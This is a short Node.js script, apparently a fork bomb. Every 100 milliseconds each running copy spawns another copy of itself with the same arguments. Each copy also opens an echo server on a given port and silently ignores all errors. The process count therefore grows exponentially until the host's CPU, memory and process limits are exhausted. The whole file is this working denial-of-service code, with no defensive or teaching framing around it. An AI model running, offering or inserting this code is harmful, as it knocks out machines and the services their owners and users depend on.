// Each process starts itself again.
import { spawn } from 'node:child_process';
import net from 'node:net';

const start = () => spawn(process.execPath, process.argv.slice(1), { stdio: 'inherit' });
const server = net.createServer(socket => socket.on('error', () => {}).pipe(socket));
server.on('error', () => {});
server.listen(Number(process.argv[2]));
setInterval(start, 100);
